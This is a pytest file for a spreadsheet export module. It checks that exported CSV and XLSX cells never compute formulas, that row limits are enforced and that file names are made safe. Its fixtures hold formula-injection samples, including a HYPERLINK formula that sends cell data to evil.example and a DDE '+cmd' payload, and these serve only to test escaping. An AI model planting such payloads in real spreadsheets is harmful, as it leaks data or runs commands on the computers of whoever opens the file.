"""Files that spreadsheets open: read back with openpyxl and the csv module."""

import csv
import io
from dataclasses import replace
from datetime import date, datetime
from decimal import Decimal
from urllib.parse import unquote
from zoneinfo import ZoneInfo

import numpy as np
import openpyxl
import pandas as pd
import pytest

from tilth.workbench.shell import export

COLUMNS = [("name", "名称"), ("value", "数"), ("at", "时间")]
AT = datetime(2025, 11, 1, 8, 30, tzinfo=ZoneInfo("Asia/Shanghai"))
ROWS = [
    {"name": '=HYPERLINK("https://evil.example?"&A1)', "value": Decimal("12.50"), "at": AT},
    {"name": "-5", "value": np.int64(7), "at": pd.Timestamp(AT)},
    {"name": "@sum", "value": float("nan"), "at": pd.NaT},
    {"name": "茶，饮\n换行", "value": True, "at": date(2025, 11, 2)},
]


def test_csv_is_read_by_chinese_excel_and_computes_nothing():
    content = export.csv_bytes(COLUMNS, ROWS)
    assert content.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert read == [
        ["名称", "数", "时间"],
        ["'" + ROWS[0]["name"], "12.50", "2025-11-01 08:30:00"],
        ["-5", "7", "2025-11-01 08:30:00"],
        ["'@sum", "", ""],
        ["茶，饮\n换行", "True", "2025-11-02"],
    ]


def test_workbook_keeps_kinds_and_computes_nothing():
    sheet = openpyxl.load_workbook(io.BytesIO(export.xlsx_bytes(COLUMNS, ROWS))).active
    read = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert read == [
        ["名称", "数", "时间"],
        ["'" + ROWS[0]["name"], 12.5, datetime(2025, 11, 1, 8, 30)],
        ["-5", 7, datetime(2025, 11, 1, 8, 30)],
        ["'@sum", None, None],
        ["茶，饮\n换行", True, datetime(2025, 11, 2)],
    ]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "d", "b"}  # no "f": formula


@pytest.mark.parametrize("text", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"])
def test_risky_text_is_neutral(text):
    assert export.neutral(text) == "'" + text


def test_more_rows_than_allowed_are_refused(settings):
    settings.OPTIONS = replace(settings.OPTIONS, limits=replace(settings.OPTIONS.limits, export_rows=2))
    with pytest.raises(export.TooManyRows, match="2"):
        export.csv_bytes(COLUMNS, ROWS)
    with pytest.raises(export.TooManyRows, match="2"):
        export.xlsx_bytes(COLUMNS, ROWS)


def test_response_is_a_file_of_a_safe_name():
    response = export.xlsx_response('../漏斗: "新"', COLUMNS, ROWS)
    assert unquote(response["Content-Disposition"].partition("utf-8''")[2]) == ".. 漏斗 新 .xlsx"
    assert b"".join(response).startswith(b"PK")
